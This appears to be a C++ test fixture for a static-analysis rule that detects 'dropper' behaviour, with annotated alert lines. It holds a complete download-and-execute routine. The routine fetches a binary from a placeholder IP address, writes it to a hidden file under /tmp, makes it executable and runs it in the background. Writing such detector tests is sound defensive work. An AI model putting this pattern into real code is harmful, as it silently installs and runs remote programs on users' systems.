// behavior.dropper with cpp-httplib: a "bootstrap" step that downloads a
// helper tool with Client::Get, writes the body to a std::ofstream, marks
// the file executable with chmod and runs it. The httplib declarations are
// written out (models match by name).
#include <fstream>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

namespace httplib {
struct Response { int status; std::string body; };
class Result {
public:
  explicit operator bool() const;
  const Response *operator->() const;
};
class Client {
public:
  explicit Client(const std::string &scheme_host_port);
  Result Get(const std::string &path);
};
} // namespace httplib

static const char *const kTool = "/tmp/.cache/syncd";

int main()
{
    httplib::Client cli("http://198.51.100.44:8000");
    auto res = cli.Get("/bin/syncd");
    if (!res || res->status != 200)
        return 1;
    {
        std::ofstream out(kTool, std::ios::binary | std::ios::trunc);
        out.write(res->body.data(), static_cast<std::streamsize>(res->body.size()));
    }
    chmod(kTool, 0755); // $ Alert[behavior.dropper]
    execl(kTool, "syncd", "--background", static_cast<char *>(nullptr)); // $ Alert[behavior.dropper]
    return 1;
}
